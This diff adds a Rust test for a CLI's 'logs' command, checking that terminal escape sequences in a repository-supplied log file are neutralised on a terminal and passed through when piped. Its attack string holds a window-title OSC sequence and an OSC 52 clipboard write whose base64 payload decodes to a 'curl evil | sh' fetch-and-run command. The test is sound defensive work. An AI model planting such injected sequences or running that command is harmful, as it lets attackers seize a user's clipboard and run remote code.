@@ -520,6 +520,33 @@ fn sigint_mid_stream_exits_130_and_saves_the_session() {
 }
 
 #[test]
+fn logs_on_a_terminal_show_escape_sequences_instead_of_sending_them() {
+    // A repository can ship its own .crush/logs/crush.log: a window title (OSC 0) and a
+    // clipboard write (OSC 52) in a logged server error.
+    let env = TestEnv::new();
+    let attack = "HTTP 500: \x1b]0;owned\x07 \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 end";
+    let line = json!({"time": "2026-11-30T09:06:47Z", "level": "WARN", "msg": attack});
+    env.write_project_file(".crush/logs/crush.log", &format!("{line}\n"));
+    let out = env.run_on_terminal(&["logs"]);
+    out.assert_success();
+    assert!(
+        !out.stdout.contains('\x1b') && !out.stdout.contains('\x07'),
+        "{:?}",
+        out.stdout
+    );
+    assert!(
+        out.stdout
+            .contains("HTTP 500: ^[]0;owned^G ^[]52;c;Y3VybCBldmlsIHwgc2g=^G end"),
+        "{:?}",
+        out.stdout
+    );
+    // Piped, the log is the log.
+    let piped = env.run(&["logs"], None);
+    piped.assert_success();
+    assert!(piped.stdout.contains(attack), "{:?}", piped.stdout);
+}
+
+#[test]
 fn logs_and_projects_commands() {
     let server = FakeServer::with_script(vec![
         Reply::api_error(500, "api_error", "internal"),
